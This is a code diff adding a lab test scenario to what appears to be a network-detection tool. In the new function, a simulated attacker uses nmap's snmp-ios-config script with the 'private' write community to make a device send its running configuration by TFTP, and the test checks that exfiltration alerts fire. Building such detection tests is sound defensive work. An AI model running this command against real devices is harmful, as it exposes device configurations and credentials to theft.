@@ -1,4 +1,4 @@
-"""Orders by SNMP: net-snmp's snmpset at a snmpd whose objects answer."""
+"""Orders by SNMP: net-snmp's snmpset, and nmap's script, at a snmpd whose objects answer."""
 
 from __future__ import annotations
 
@@ -7,6 +7,7 @@ from bootwarden.lab.programs import listens
 from bootwarden.lab.stage import Stage
 from bootwarden.scenarios.model import Notice
 from bootwarden.scenarios.sites import ADMIN, BOOT_SERVER
+from bootwarden.traffic import images
 
 COPY = "1.3.6.1.4.1.9.9.96.1.1.1.1"
 """CISCO-CONFIG-COPY-MIB ccCopyTable's entry."""
@@ -79,3 +80,32 @@ def snmp_by_admin(stage: Stage) -> None:
     """An administrator orders the same from the declared server."""
     agent(stage)
     snmpset(stage, "admin", *copy(BOOT_SERVER, 112))
+
+
+@act(
+    scenario="bw30-orders-of-the-lab",
+    hosts={"device": "10.0.1.23", "attacker": "10.0.6.23"},
+    needs=("snmpd", "nmap", "tftp"),
+    notices=(
+        Notice("SNMP_Config_Copy", "10.0.1.23", "10.0.6.23", "10.0.1.23-config"),
+        Notice("Config_Exfiltration", "10.0.1.23", "10.0.6.23", "10.0.1.23-config"),
+    ),
+    raises=[
+        ("BW03", 0, "10.0.6.23", "10.0.1.23"),
+        ("BW18", 0, "10.0.1.23", "10.0.6.23"),
+    ],
+)
+def nmap_takes_a_configuration(stage: Stage) -> None:
+    """nmap's snmp-ios-config orders a device to send its configuration, and takes it by TFTP."""
+    agent(stage)
+    stage.file(f".{COPY}.10.9999", "integer\n3\n")  # the copy was successful
+    config = stage.file("running-config", images.config("edge23", ("snmp-server community private RW",)))
+    words = ("-n", "-Pn", "-sU", "-p161", "--script=snmp-ios-config", "--script-args=creds.snmp=:private")
+    log = stage.folder / "attacker-nmap.log"
+    with log.open("wb") as out:
+        nmap = stage.popen("attacker", "nmap", *words, stage.address("device"), stdout=out, stderr=out)
+    stage.wait("nmap's TFTP server", lambda: listens("udp", 69)(nmap.pid))
+    put = ("-c", "put", config, "10.0.1.23-config")
+    stage.run("device", "tftp", "-m", "octet", stage.address("attacker"), *put)
+    stage.wait("nmap's end", lambda: nmap.poll() is not None)
+    stage.wait_for_text(log.name, "snmp-server community private RW")
